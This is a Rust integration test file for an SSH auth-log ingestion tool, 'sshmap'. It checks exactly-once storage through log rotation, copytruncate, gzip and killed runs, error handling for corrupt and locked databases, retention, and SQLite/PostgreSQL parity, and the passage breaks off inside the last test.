//! Store: exactly-once ingest (twice, append, rotation by rename, copytruncate,
//! gzip, SIGKILL), `stats --db` equal to `stats` on the logs, bad databases,
//! retention, and the same rows on SQLite and PostgreSQL (`SSHMAP_TEST_PG`).

use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

use sshmap::event::{Event, Kind};
use sshmap::store::{self, Filter, Location, Session, Store};

use crate::util::{fixture, run};

fn sample() -> String {
    fs::read_to_string(fixture("sample/auth.log")).expect("sample log")
}

fn ok(out: Output) -> Output {
    assert!(
        out.status.success(),
        "sshmap failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn ingest(db: &Path, inputs: &[&Path]) -> Output {
    let mut args = vec![
        "ingest".to_string(),
        "--tz".into(),
        "UTC".into(),
        "--db".into(),
        db.display().to_string(),
    ];
    args.extend(inputs.iter().map(|p| p.display().to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    ok(run(&args))
}

/// `stats --json` on log files, `inputs` names dropped (the store names an input by its latest path).
fn stats_logs(inputs: &[&Path]) -> serde_json::Value {
    let mut args = vec![
        "stats".to_string(),
        "--json".into(),
        "--tz".into(),
        "UTC".into(),
    ];
    args.extend(inputs.iter().map(|p| p.display().to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    serde_json::from_slice(&ok(run(&args)).stdout).expect("json")
}

fn stats_db(db: &str, extra: &[&str]) -> serde_json::Value {
    let mut args = vec!["stats", "--json", "--tz", "UTC", "--db", db];
    args.extend_from_slice(extra);
    serde_json::from_slice(&ok(run(&args)).stdout).expect("json")
}

fn without_input_names(mut v: serde_json::Value) -> serde_json::Value {
    for i in v["inputs"].as_array_mut().expect("inputs") {
        i.as_object_mut().expect("object").remove("input");
    }
    v
}

fn events(db: &Path) -> Vec<Event> {
    let mut s = store::open(&Location::Sqlite(db.to_path_buf())).expect("open");
    let mut out = Vec::new();
    s.scan(&Filter::default(), &mut |e| out.push(e))
        .expect("scan");
    out
}

fn write(path: &Path, text: &str) {
    fs::write(path, text).unwrap();
}

fn append(path: &Path, text: &str) {
    fs::OpenOptions::new()
        .append(true)
        .open(path)
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
}

/// The sample, split after `n` lines.
fn split(text: &str, n: usize) -> (String, String) {
    let mut a = String::new();
    let mut b = String::new();
    for (i, l) in text.split_inclusive('\n').enumerate() {
        if i < n {
            a.push_str(l)
        } else {
            b.push_str(l)
        }
    }
    (a, b)
}

#[test]
fn ingest_twice_adds_nothing_and_stats_db_equals_stats_on_the_log() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    write(&log, &sample());
    let db = dir.path().join("s.db");
    let first = ingest(&db, &[&log]);
    assert!(
        String::from_utf8_lossy(&first.stderr).contains("+898 events"),
        "{first:?}"
    );
    let once = events(&db);
    let second = ingest(&db, &[&log]);
    assert!(
        String::from_utf8_lossy(&second.stderr).contains("+0 events (up to date)"),
        "{second:?}"
    );
    assert_eq!(events(&db), once);
    assert_eq!(stats_db(db.to_str().unwrap(), &[]), stats_logs(&[&log]));
    // The same through sqlite:// and with a time filter that keeps everything.
    let url = format!("sqlite://{}", db.display());
    let all = stats_db(&url, &["--from", "2000-01-01", "--to", "2100-01-01"]);
    assert_eq!(all, stats_logs(&[&log]));
    let none = stats_db(&url, &["--from", "2100-01-01"]);
    assert_eq!(none["events"], 0);
    let web2 = stats_db(&url, &["--host", "web2"]);
    assert_eq!(web2["events"], 0);
}

#[test]
fn append_then_ingest_adds_only_the_new_lines() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    let (a, b) = split(&sample(), 500);
    write(&log, &a);
    let db = dir.path().join("s.db");
    ingest(&db, &[&log]);
    let before = events(&db).len();
    append(&log, &b);
    ingest(&db, &[&log]);
    let clean_db = dir.path().join("clean.db");
    ingest(&clean_db, &[&log]);
    assert!(before > 0 && before < events(&clean_db).len());
    assert_eq!(events(&db), events(&clean_db));
    assert_eq!(stats_db(db.to_str().unwrap(), &[]), stats_logs(&[&log]));
}

#[test]
fn rotation_by_rename_then_gzip_loses_and_doubles_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("log");
    fs::create_dir(&logs).unwrap();
    let live = logs.join("auth.log");
    let (a, rest) = split(&sample(), 400);
    let (b, c) = split(&rest, 300);
    write(&live, &a);
    let db = dir.path().join("s.db");
    ingest(&db, &[&logs]);
    // More lines, then logrotate's default: rename, new file.
    append(&live, &b);
    let rotated = logs.join("auth.log.1");
    fs::rename(&live, &rotated).unwrap();
    write(&live, &c);
    ingest(&db, &[&logs]);
    let want = stats_logs(&[&rotated, &live]);
    assert_eq!(
        without_input_names(stats_db(db.to_str().unwrap(), &[])),
        without_input_names(want.clone())
    );
    let n = events(&db).len();
    // Then the rotated file is compressed (delaycompress): nothing new.
    let gz = logs.join("auth.log.2.gz");
    let mut enc = flate2::write::GzEncoder::new(
        fs::File::create(&gz).unwrap(),
        flate2::Compression::default(),
    );
    enc.write_all(fs::read(&rotated).unwrap().as_slice())
        .unwrap();
    enc.finish().unwrap();
    fs::remove_file(&rotated).unwrap();
    let out = ingest(&db, &[&logs]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("auth.log.2.gz: +0 events (up to date)"),
        "{out:?}"
    );
    assert_eq!(events(&db).len(), n);
    assert_eq!(
        without_input_names(stats_db(db.to_str().unwrap(), &[])),
        without_input_names(want)
    );
}

#[test]
fn gzipped_copy_with_an_unread_tail_adds_only_the_tail() {
    let dir = tempfile::tempdir().unwrap();
    let live = dir.path().join("auth.log");
    let (a, b) = split(&sample(), 700);
    write(&live, &a);
    let db = dir.path().join("s.db");
    ingest(&db, &[&live]);
    // Lines written after our read, then rotated and compressed in one go.
    let gz = dir.path().join("auth.log.1.gz");
    let mut enc = flate2::write::GzEncoder::new(
        fs::File::create(&gz).unwrap(),
        flate2::Compression::default(),
    );
    enc.write_all(format!("{a}{b}").as_bytes()).unwrap();
    enc.finish().unwrap();
    fs::remove_file(&live).unwrap();
    ingest(&db, &[&gz]);
    let full = dir.path().join("full.log");
    write(&full, &sample());
    assert_eq!(
        without_input_names(stats_db(db.to_str().unwrap(), &[])),
        without_input_names(stats_logs(&[&full]))
    );
}

#[test]
fn copytruncate_is_detected_and_nothing_is_lost_or_doubled() {
    let dir = tempfile::tempdir().unwrap();
    let live = dir.path().join("auth.log");
    let (a, rest) = split(&sample(), 450);
    let (b, c) = split(&rest, 250);
    write(&live, &a);
    let db = dir.path().join("s.db");
    ingest(&db, &[&live]);
    append(&live, &b);
    // logrotate copytruncate: copy, then truncate the live file in place (same inode).
    let copy = dir.path().join("auth.log.1");
    fs::copy(&live, &copy).unwrap();
    fs::OpenOptions::new()
        .write(true)
        .open(&live)
        .unwrap()
        .set_len(0)
        .unwrap();
    append(&live, &c);
    let out = ingest(&db, &[&copy, &live]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("copytruncate detected"),
        "{out:?}"
    );
    let want = stats_logs(&[&copy, &live]);
    assert_eq!(
        without_input_names(stats_db(db.to_str().unwrap(), &[])),
        without_input_names(want)
    );
    let again = ingest(&db, &[&copy, &live]);
    assert!(
        !String::from_utf8_lossy(&again.stderr).contains("+1"),
        "{again:?}"
    );
}

/// A log of `copies` × the sample with distinct pids per copy (about 110 kB each).
pub(crate) fn big_log(path: &Path, copies: usize) {
    let text = sample();
    let mut out = std::io::BufWriter::new(fs::File::create(path).unwrap());
    for k in 0..copies {
        for line in text.split_inclusive('\n') {
            match (line.find("sshd["), line.find("]:")) {
                (Some(i), Some(j)) if i + 5 < j => {
                    let pid: u32 = line[i + 5..j].parse().unwrap_or(0);
                    write!(
                        out,
                        "{}{}{}",
                        &line[..i + 5],
                        pid + 1000 * k as u32,
                        &line[j..]
                    )
                    .unwrap();
                }
                _ => out.write_all(line.as_bytes()).unwrap(),
            }
        }
    }
    out.flush().unwrap();
}

fn version(db: &Path) -> i64 {
    let Ok(c) =
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
    else {
        return 0;
    };
    c.query_row("SELECT coalesce(max(version), 0) FROM inputs", [], |r| {
        r.get(0)
    })
    .unwrap_or(0)
}

#[test]
fn sigkill_in_the_middle_of_a_large_file_then_ingest_again_equals_a_clean_run() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    big_log(&log, 300); // ~33 MB, ~300k lines: several commits
    let clean = dir.path().join("clean.db");
    ingest(&clean, &[&log]);
    let want = events(&clean);
    for (round, delay_ms) in [0u64, 150].into_iter().enumerate() {
        let db = dir.path().join(format!("killed{round}.db"));
        let mut child = crate::util::sshmap()
            .args([
                "ingest",
                "-q",
                "--tz",
                "UTC",
                "--db",
                db.to_str().unwrap(),
                log.to_str().unwrap(),
            ])
            .spawn()
            .unwrap();
        let start = Instant::now();
        while version(&db) < 1 {
            assert!(start.elapsed() < Duration::from_secs(120), "no commit seen");
            assert!(
                child.try_wait().unwrap().is_none(),
                "ingest finished before it could be killed"
            );
            std::thread::sleep(Duration::from_millis(5));
        }
        std::thread::sleep(Duration::from_millis(delay_ms));
        assert!(
            child.try_wait().unwrap().is_none(),
            "ingest finished before it could be killed"
        );
        child.kill().unwrap(); // SIGKILL
        child.wait().unwrap();
        let partial = events(&db).len();
        assert!(
            partial < want.len(),
            "the kill came too late to test anything"
        );
        // Killed before the end of its run: its session keys were not written.
        assert!(sessions_unkeyed(&Db::Lite(&db)) > 0);
        ingest(&db, &[&log]);
        let got = events(&db);
        assert_eq!(got.len(), want.len());
        assert!(got == want, "resumed store differs from a clean run");
        let sessions = |p: &Path| {
            store::open(&Location::Sqlite(p.to_path_buf()))
                .unwrap()
                .sessions(&Filter::default())
                .unwrap()
        };
        assert!(
            sessions(&db) == sessions(&clean),
            "resumed sessions differ from a clean run's"
        );
        assert_keys_complete(&Db::Lite(&db));
        assert_eq!(
            stats_db(db.to_str().unwrap(), &[]),
            stats_db(clean.to_str().unwrap(), &[])
        );
    }
}

#[test]
fn corrupt_database_is_a_clear_error_and_is_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    write(&log, &sample());
    let db = dir.path().join("s.db");
    let junk = b"this is not a database, just some bytes that someone wrote here\n".repeat(100);
    fs::write(&db, &junk).unwrap();
    let out = run(&[
        "ingest",
        "--db",
        db.to_str().unwrap(),
        log.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("is not an sshmap database or is corrupt") && err.contains("move it away"),
        "{err}"
    );
    assert_eq!(fs::read(&db).unwrap(), junk, "the file was modified");
    let out = run(&["stats", "--db", db.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn locked_database_is_a_clear_error_and_nothing_is_half_written() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    write(&log, &sample());
    let db = dir.path().join("s.db");
    drop(store::open(&Location::Sqlite(db.clone())).unwrap());
    let holder = rusqlite::Connection::open(&db).unwrap();
    holder
        .execute_batch("BEGIN EXCLUSIVE; CREATE TABLE t(x);")
        .unwrap();
    let mut st = store::SqliteStore::open_with(&db, Duration::from_millis(200));
    if let Ok(s) = st.as_mut() {
        let opts = sshmap::flow::Options {
            all: false,
            year: None,
            tz: jiff::tz::TimeZone::UTC,
            progress: false,
            geo: None,
            range: Default::default(),
            host: None,
        };
        let inputs = [sshmap::source::Input::File(log.clone())];
        let res = store::ingest::run(s, &inputs, &opts);
        let err = res
            .expect_err("ingest into a locked database must fail")
            .to_string();
        assert!(err.contains("locked by another process"), "{err}");
    } else {
        let err = st.err().unwrap().to_string();
        assert!(err.contains("locked by another process"), "{err}");
    }
    holder.execute_batch("ROLLBACK").unwrap();
    drop(holder);
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    assert_eq!(s.count().unwrap(), 0);
    assert!(s
        .checkpoints()
        .unwrap()
        .iter()
        .all(|c| c.version == 0 && c.events == 0));
}

#[test]
fn keep_prunes_final_raw_events_and_keeps_rollups_and_sessions() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    big_log(&log, 30);
    let text = fs::read_to_string(&log).unwrap();
    let (a, b) = split(&text, 20_000);
    write(&log, &a);
    let db = dir.path().join("s.db");
    ingest(&db, &[&log]);
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    let total = s.count().unwrap();
    let sessions = s.sessions(&Filter::default()).unwrap();
    drop(s);
    // The log is dated Nov 22 of the file's year: a 1-hour retention drops
    // every event but the provisional ones at its end, which the next read
    // replaces, and the other events of their sessions.
    let out = ok(run(&[
        "ingest",
        "--tz",
        "UTC",
        "--db",
        db.to_str().unwrap(),
        "--keep",
        "1h",
        log.to_str().unwrap(),
    ]));
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    let keep_line = s.checkpoints().unwrap()[0].keep_line;
    let kept = s.count().unwrap();
    assert!(
        keep_line > 1 && kept > 0 && kept < total,
        "{keep_line} {kept} {total}"
    );
    let pruned = format!("pruned {} raw events", total - kept);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&pruned),
        "{out:?}"
    );
    let rows = s.minute_country(0, i64::MAX).unwrap();
    assert_eq!(rows.iter().map(|r| r.events).sum::<i64>(), total as i64);
    assert!(!s.hour_ip(0, i64::MAX).unwrap().is_empty());
    assert_eq!(s.sessions(&Filter::default()).unwrap(), sessions);
    drop(s);
    // More lines: the provisional tail is replaced, nothing is counted twice.
    append(&log, &b);
    ingest(&db, &[&log]);
    let clean = dir.path().join("clean.db");
    ingest(&clean, &[&log]);
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    let mut c = store::open(&Location::Sqlite(clean.clone())).unwrap();
    assert_eq!(
        s.minute_country(0, i64::MAX).unwrap(),
        c.minute_country(0, i64::MAX).unwrap()
    );
    assert_eq!(
        s.hour_ip(0, i64::MAX).unwrap(),
        c.hour_ip(0, i64::MAX).unwrap()
    );
    assert!(s.sessions(&Filter::default()).unwrap() == c.sessions(&Filter::default()).unwrap());
    let bad = run(&[
        "ingest",
        "--db",
        db.to_str().unwrap(),
        "--keep",
        "soon",
        log.to_str().unwrap(),
    ]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("90d"));
}

#[test]
fn rollups_match_the_raw_events() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    let (a, b) = split(&sample(), 333);
    write(&log, &a);
    let db = dir.path().join("s.db");
    ingest(&db, &[&log]);
    append(&log, &b);
    ingest(&db, &[&log]); // replaces the provisional tail: rollups must be adjusted, not doubled
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    let mut want = std::collections::BTreeMap::<(i64, String, String), (i64, i64)>::new();
    for e in events(&db) {
        let c = e
            .geo
            .as_ref()
            .and_then(|g| g.country.as_deref())
            .unwrap_or("")
            .to_string();
        let k = (
            e.ts.unix_secs().div_euclid(60) * 60,
            c,
            e.kind.as_str().to_string(),
        );
        let v = want.entry(k).or_default();
        v.0 += 1;
        v.1 += i64::from(e.attempts);
    }
    let got: std::collections::BTreeMap<_, _> = s
        .minute_country(0, i64::MAX)
        .unwrap()
        .into_iter()
        .map(|r| {
            (
                (r.minute, r.country.to_string(), r.kind.to_string()),
                (r.events, r.attempts),
            )
        })
        .collect();
    assert_eq!(got, want);
    let sessions = s.sessions(&Filter::default()).unwrap();
    assert!(sessions.iter().any(|x| x.outcome == "success"));
    assert!(sessions
        .iter()
        .any(|x| x.outcome == "failure" && x.attempts > 0));
}

/// `SSHMAP_TEST_PG`: a PostgreSQL URL (see `scripts/test-pg.sh`). Set but
/// unreachable is a failure, not a skip.
fn pg_url() -> Option<String> {
    std::env::var("SSHMAP_TEST_PG")
        .ok()
        .filter(|s| !s.is_empty())
}

/// A fresh schema-less database state: each test drops what the store created.
fn pg_fresh(url: &str) -> Box<dyn Store> {
    let mut c = postgres::Client::connect(url, postgres::NoTls).unwrap_or_else(|e| {
        panic!("SSHMAP_TEST_PG={url} is set but the server is unreachable: {e}")
    });
    c.batch_execute(
        "DROP TABLE IF EXISTS events, rollup_minute, rollup_hour_ip, sessions, session_keys, inputs, sshmap_schema CASCADE",
    )
    .unwrap();
    store::open(&Location::Postgres(url.to_string())).expect("open postgres store")
}

#[test]
fn same_queries_on_sqlite_and_postgres_return_the_same_rows() {
    let Some(url) = pg_url() else {
        eprintln!("SSHMAP_TEST_PG not set: PostgreSQL part skipped (scripts/test-pg.sh sets it)");
        return;
    };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    let (a, b) = split(&sample(), 600);
    write(&log, &a);
    let lite = dir.path().join("s.db");
    drop(pg_fresh(&url));
    for db in [lite.to_str().unwrap(), url.as_str()] {
        ok(run(&[
            "ingest",
            "--tz",
            "UTC",
            "--db",
            db,
            log.to_str().unwrap(),
        ]));
    }
    append(&log, &b);
    for db in [lite.to_str().unwrap(), url.as_str()] {
        ok(run(&[
            "ingest",
            "--tz",
            "UTC",
            "--db",
            db,
            log.to_str().unwrap(),
        ]));
        let again = ok(run(&[
            "ingest",
            "--tz",
            "UTC",
            "--db",
            db,
            log.to_str().unwrap(),
        ]));
        assert!(String::from_utf8_lossy(&again.stderr).contains("+0 events"));
    }
    let mut s1 = store::open(&Location::Sqlite(lite.clone())).unwrap();
    let mut s2 = store::open(&Location::Postgres(url.clone())).unwrap();
    let scan = |s: &mut Box<dyn Store>, f: &Filter| {
        let mut v = Vec::new();
        s.scan(f, &mut |e| v.push(e)).unwrap();
        v
    };
    let all = Filter::default();
    assert_eq!(scan(&mut s1, &all), scan(&mut s2, &all));
    let evs = scan(&mut s1, &all);
    let mid = evs[evs.len() / 2].ts.micros;
    let f = Filter {
        from: Some(mid),
        to: Some(mid + 3_600_000_000),
        host: Some("web1".into()),
    };
    assert_eq!(scan(&mut s1, &f), scan(&mut s2, &f));
    assert_eq!(
        s1.minute_country(0, i64::MAX).unwrap(),
        s2.minute_country(0, i64::MAX).unwrap()
    );
    assert_eq!(
        s1.hour_ip(0, i64::MAX).unwrap(),
        s2.hour_ip(0, i64::MAX).unwrap()
    );
    assert_eq!(s1.sessions(&all).unwrap(), s2.sessions(&all).unwrap());
    let strip = |v: Vec<store::Checkpoint>| v.into_iter().map(|c| c.report()).collect::<Vec<_>>();
    assert_eq!(
        strip(s1.checkpoints().unwrap()),
        strip(s2.checkpoints().unwrap())
    );
    assert_eq!(stats_db(lite.to_str().unwrap(), &[]), stats_db(&url, &[]));
    assert_eq!(stats_db(&url, &[]), stats_logs(&[&log]));
    assert_eq!(s1.prune(mid).unwrap(), s2.prune(mid).unwrap());
    assert_eq!(s1.count().unwrap(), s2.count().unwrap());
}

#[test]
fn postgres_notifies_listeners_of_new_events() {
    let Some(url) = pg_url() else { return };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    drop(pg_fresh(&url));
    let mut listener = store::Listener::connect(&url).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    write(&log, &sample());
    ok(run(&["ingest", "--db", &url, log.to_str().unwrap()]));
    let payload = listener
        .next(Duration::from_secs(5))
        .unwrap()
        .expect("a notification within 5 s");
    assert_eq!(payload.events, 898);
    assert!(payload.input.ends_with("auth.log"));
}

#[test]
fn postgres_concurrent_ingests_of_one_input_store_it_once() {
    let Some(url) = pg_url() else { return };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    drop(pg_fresh(&url));
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("auth.log");
    big_log(&log, 40);
    let kids: Vec<_> = (0..3)
        .map(|_| {
            crate::util::sshmap()
                .args([
                    "ingest",
                    "-q",
                    "--tz",
                    "UTC",
                    "--db",
                    &url,
                    log.to_str().unwrap(),
                ])
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut k in kids {
        k.wait().unwrap();
    }
    ok(run(&[
        "ingest",
        "-q",
        "--tz",
        "UTC",
        "--db",
        &url,
        log.to_str().unwrap(),
    ]));
    let lite = dir.path().join("s.db");
    ingest(&lite, &[&log]);
    assert_eq!(stats_db(&url, &[]), stats_db(lite.to_str().unwrap(), &[]));
}

/// PostgreSQL tests share one database: one at a time.
pub static PG_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// The reference for the `sessions` table: the query-time grouping sshmap used
/// before the table existed, over `(event id, event)` in id order. The same
/// input (id >> 40), host and pid, an address that is the same or unknown on
/// either side, at most 600 s after the session's latest event; no pid: a
/// session of its own.
fn reference_sessions(events: &[(i64, Event)]) -> Vec<Session> {
    type Open = (Session, std::collections::BTreeSet<String>);
    let mut open: std::collections::HashMap<(i64, Option<String>, Option<u32>), Open> =
        Default::default();
    let mut done = Vec::new();
    let close = |(mut s, users): Open, done: &mut Vec<Session>| {
        s.users = users.into_iter().collect::<Vec<_>>().join("\n");
        done.push(s);
    };
    for (id, ev) in events {
        let key = (id >> 40, ev.host.as_deref().map(str::to_string), ev.pid);
        let secs = ev.ts.unix_secs();
        let ip = ev.ip.map(|i| i.to_string());
        if let Some((s, _)) = open.get(&key) {
            let same_ip = s.ip.is_none() || ip.is_none() || s.ip == ip;
            if !same_ip || secs - s.end > 600 || ev.pid.is_none() {
                close(open.remove(&key).unwrap(), &mut done);
            }
        }
        let (s, users) = open.entry(key).or_insert_with(|| {
            let s = Session {
                host: ev.host.as_deref().map(str::to_string),
                pid: ev.pid.map(i64::from),
                ip: None,
                users: String::new(),
                attempts: 0,
                outcome: "other".into(),
                start: secs,
                end: secs,
            };
            (s, Default::default())
        });
        if s.ip.is_none() {
            s.ip = ip;
        }
        s.end = s.end.max(secs);
        s.start = s.start.min(secs);
        s.attempts += i64::from(ev.attempts);
        if let Some(u) = &ev.user {
            users.insert(u.to_string());
        }
        if ev.kind == Kind::AuthSuccess {
            s.outcome = "success".into();
        } else if s.outcome != "success" && ev.attempts > 0 {
            s.outcome = "failure".into();
        }
    }
    for (_, o) in open.drain() {
        close(o, &mut done);
    }
    done.sort();
    done
}

/// Every stored event with its id, in id order.
fn events_with_ids(s: &mut Box<dyn Store>, ids: Vec<i64>) -> Vec<(i64, Event)> {
    let mut evs = Vec::new();
    s.scan(&Filter::default(), &mut |e| evs.push(e)).unwrap();
    assert_eq!(ids.len(), evs.len());
    ids.into_iter().zip(evs).collect()
}

/// Ingests a 60k-line log in pieces into `db` (a path or URL): a first part,
/// an append (the provisional tail is replaced, sessions across the kept
/// point are recomputed), a rename rotation with a new file, then an append
/// to the new file. Returns the log directory.
fn ingest_in_pieces(db: &str, dir: &Path) -> std::path::PathBuf {
    let whole = dir.join("whole.log");
    big_log(&whole, 60);
    // Plus one connection that lasts the whole log (a line every 400), so
    // sessions cross every point a resumed read keeps from.
    let mut text = String::new();
    for (i, line) in fs::read_to_string(&whole)
        .unwrap()
        .split_inclusive('\n')
        .enumerate()
    {
        text.push_str(line);
        if i % 400 == 399 {
            text += &format!(
                "{} web1 sshd[4000000]: Connection closed by 192.0.2.77 port 4242 [preauth]\n",
                &line[..15]
            );
        }
    }
    fs::remove_file(&whole).unwrap();
    let (a, rest) = split(&text, 30_000);
    let (b, rest) = split(&rest, 12_000);
    let (c, d) = split(&rest, 9_000);
    let logs = dir.join("log");
    fs::create_dir(&logs).unwrap();
    let live = logs.join("auth.log");
    let go = || {
        ok(run(&[
            "ingest",
            "-q",
            "--tz",
            "UTC",
            "--db",
            db,
            logs.to_str().unwrap(),
        ]))
    };
    write(&live, &a);
    go();
    append(&live, &b);
    go();
    fs::rename(&live, logs.join("auth.log.1")).unwrap();
    write(&live, &c);
    go();
    append(&live, &d);
    go();
    logs
}

fn sqlite_ids(db: &Path) -> Vec<i64> {
    let c = rusqlite::Connection::open(db).unwrap();
    let mut st = c.prepare("SELECT id FROM events ORDER BY id").unwrap();
    st.query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// A store as the tests reach it behind sshmap's back.
enum Db<'a> {
    Lite(&'a Path),
    Pg(&'a str),
}

impl Db<'_> {
    fn exec(&self, sql: &str) {
        match self {
            Db::Lite(p) => rusqlite::Connection::open(p)
                .unwrap()
                .execute_batch(sql)
                .unwrap(),
            Db::Pg(url) => postgres::Client::connect(url, postgres::NoTls)
                .unwrap()
                .batch_execute(sql)
                .unwrap(),
        }
    }

    fn int(&self, sql: &str) -> i64 {
        match self {
            Db::Lite(p) => rusqlite::Connection::open(p)
                .unwrap()
                .query_row(sql, [], |r| r.get(0))
                .unwrap(),
            Db::Pg(url) => postgres::Client::connect(url, postgres::NoTls)
                .unwrap()
                .query_one(sql, &[])
                .unwrap()
                .get(0),
        }
    }

    fn has_index(&self, name: &str) -> bool {
        let sql = match self {
            Db::Lite(_) => format!("SELECT count(*) FROM sqlite_master WHERE name = '{name}'"),
            Db::Pg(_) => format!("SELECT count(*) FROM pg_indexes WHERE indexname = '{name}'"),
        };
        self.int(&sql) > 0
    }

    /// Back to schema 7: the `sessions_key` index, no key table.
    fn to_schema_7(&self) {
        self.exec(match self {
            Db::Lite(_) => "DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; \
                ALTER TABLE inputs DROP COLUMN sessions_until; CREATE INDEX sessions_last_seen ON sessions(last_seen); \
                CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 7;",
            Db::Pg(_) => "DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; \
                CREATE INDEX sessions_key ON sessions (pid, host, id); UPDATE sshmap_schema SET version = 7;",
        });
    }
}

/// Stored sessions (with a pid: the others are never looked up) above their
/// input's `keys_to`: what the key table lacks.
fn sessions_unkeyed(db: &Db) -> i64 {
    db.int(
        "SELECT count(*) FROM sessions s WHERE pid IS NOT NULL
         AND id > (SELECT keys_to FROM inputs i WHERE i.id = s.input)",
    )
}

/// The key table is complete: each session with a pid has its key row, each
/// input's `keys_to` is its latest session, and schema 6's index is gone.
fn assert_keys_complete(db: &Db) {
    assert!(db.int("SELECT count(*) FROM sessions WHERE pid IS NOT NULL") > 0);
    assert_eq!(
        db.int(
            "SELECT count(*) FROM sessions s WHERE pid IS NOT NULL AND NOT EXISTS
             (SELECT 1 FROM session_keys k WHERE k.input = s.input AND k.pid = s.pid
              AND k.host = coalesce(s.host, '') AND k.id = s.id)"
        ),
        0,
        "sessions without their key row"
    );
    assert_eq!(
        db.int(
            "SELECT count(*) FROM inputs i
             WHERE keys_to <> coalesce((SELECT max(id) FROM sessions s WHERE s.input = i.id), 0)"
        ),
        0,
        "keys_to is not the input's latest session"
    );
    assert_eq!(sessions_unkeyed(db), 0);
    assert!(!db.has_index("sessions_key"), "schema 6's index is left");
}

#[test]
fn sessions_table_equals_the_grouping_of_all_events_through_appends_and_rotation() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    ingest_in_pieces(db.to_str().unwrap(), dir.path());
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    let evs = events_with_ids(&mut s, sqlite_ids(&db));
    let want = reference_sessions(&evs);
    let got = s.sessions(&Filter::default()).unwrap();
    assert!(
        want.len() > 1000 && want.iter().any(|x| !x.users.is_empty() && x.attempts > 1),
        "{}",
        want.len()
    );
    assert_eq!(got.len(), want.len());
    assert!(
        got == want,
        "the sessions table differs from the grouping of the stored events"
    );
    // Filters: start in [from, to), host.
    let mid = got[got.len() / 2].start;
    let f = Filter {
        from: Some(mid * 1_000_000),
        to: Some((mid + 3600) * 1_000_000),
        host: Some("web1".into()),
    };
    let sub: Vec<_> = want
        .iter()
        .filter(|x| x.start >= mid && x.start < mid + 3600 && x.host.as_deref() == Some("web1"))
        .cloned()
        .collect();
    assert!(!sub.is_empty());
    assert_eq!(s.sessions(&f).unwrap(), sub);
    drop(s);

    // A database from before the sessions table (schema 1) is migrated: its
    // events are grouped when it is opened.
    let c = rusqlite::Connection::open(&db).unwrap();
    c.execute_batch("DROP TABLE sessions; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; ALTER TABLE events DROP COLUMN session; ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; ALTER TABLE inputs DROP COLUMN sessions_until; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
    drop(c);
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    assert!(
        s.sessions(&Filter::default()).unwrap() == want,
        "migrated sessions differ"
    );
    assert_keys_complete(&Db::Lite(&db));
    // ... and ingest goes on from there.
    let live = dir.path().join("log/auth.log");
    append(&live, &split(&sample(), 200).0);
    drop(s);
    ok(run(&[
        "ingest",
        "-q",
        "--tz",
        "UTC",
        "--db",
        db.to_str().unwrap(),
        dir.path().join("log").to_str().unwrap(),
    ]));
    let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
    let evs = events_with_ids(&mut s, sqlite_ids(&db));
    assert!(s.sessions(&Filter::default()).unwrap() == reference_sessions(&evs));
    assert_keys_complete(&Db::Lite(&db));
}

#[test]
fn postgres_sessions_table_equals_the_grouping_of_all_events() {
    let Some(url) = pg_url() else { return };
    let _guard = crate::store::PG_LOCK
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    drop(pg_fresh(&url));
    let dir = tempfile::tempdir().unwrap();
